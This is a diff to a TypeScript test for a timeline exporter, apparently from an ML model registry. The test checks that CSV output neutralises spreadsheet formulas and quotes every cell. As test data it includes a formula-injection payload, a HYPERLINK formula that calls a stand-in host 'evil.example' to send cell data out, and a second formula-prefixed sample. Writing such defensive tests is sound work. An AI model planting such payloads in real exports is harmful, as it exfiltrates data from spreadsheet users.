@@ -1,4 +1,5 @@
 import * as assert from 'node:assert/strict';
+import { parse } from 'csv-parse/sync';
 import { describe, it } from 'node:test';
 import { filterChoices, filterTimeline, type TimelineEvent } from '../../../src/core/history/timeline';
 import { exportTimeline } from '../../../src/core/history/timelineExport';
@@ -83,17 +84,19 @@ describe('History timeline: registry tags and the audit log merged', async () =>
 
   it('exports CSV with formula cells made text and JSON with every field', () => {
     const csv = exportTimeline(events, 'csv');
-    const lines = csv.split('\r\n');
-    assert.equal(lines[0], 'time,actor,action,target,model,version,stage,tag,commit,gate,auditId,detail');
-    assert.equal(lines.length, events.length + 2, 'a header, a line per event, and the final line end');
-    const teammateLine = lines[events.length]!;
-    assert.ok(teammateLine.startsWith(`2020-01-02T03:04:05.000Z,"'=HYPERLINK(""http://evil.example/?x""&A1) <mallory@example.com>",assign,churn#staging#4,churn,v0.1.0,staging,churn#staging#4,`), teammateLine);
-    const renameLine = lines.find((l) => l.includes('run.rename'))!;
-    // The detail holds a comma and quotes: one quoted field, quotes doubled.
-    assert.ok(renameLine.endsWith(`,run.rename,${run},,,,,,,6,"{""name"":""gbm""} → {""name"":""@SUM(1+1), \\""quoted\\""""}"`), renameLine);
-    for (const line of lines.slice(1, -1)) {
-      for (const cell of line.split(',')) assert.doesNotMatch(cell, /^[=+@\t\r]/, `no cell starts as a formula: ${line}`);
+    assert.equal(csv.split('\r\n')[0], '"time","actor","action","target","model","version","stage","tag","commit","gate","auditId","detail"');
+    const records = parse(csv, { record_delimiter: '\r\n' }) as string[][];
+    assert.equal(records.length, events.length + 1, 'a header and a record per event');
+    const teammate = records.find((r) => r[3] === 'churn#staging#4')!;
+    assert.deepEqual(teammate.slice(0, 8), ['2020-01-02T03:04:05.000Z', `'=HYPERLINK("http://evil.example/?x"&A1) <mallory@example.com>`, 'assign', 'churn#staging#4', 'churn', 'v0.1.0', 'staging', 'churn#staging#4']);
+    const rename = records.find((r) => r[2] === 'run.rename')!;
+    // The detail holds a comma and quotes: one field, read back whole.
+    assert.deepEqual(rename.slice(2), ['run.rename', run, '', '', '', '', '', '', '6', '{"name":"gbm"} → {"name":"@SUM(1+1), \\"quoted\\""}']);
+    for (const record of records.slice(1)) {
+      for (const cell of record) assert.doesNotMatch(cell, /^[=+@\t\r-]/, `no cell starts as a formula: ${record.join(' | ')}`);
     }
+    // A separator a spreadsheet may split on (";" in many locales) stays inside its quoted cell.
+    assert.ok(csv.split('\r\n').slice(1, -1).every((line) => line.startsWith('"') && line.endsWith('"')));
 
     const json = JSON.parse(exportTimeline(events, 'json')) as Record<string, unknown>[];
     assert.equal(json.length, events.length);
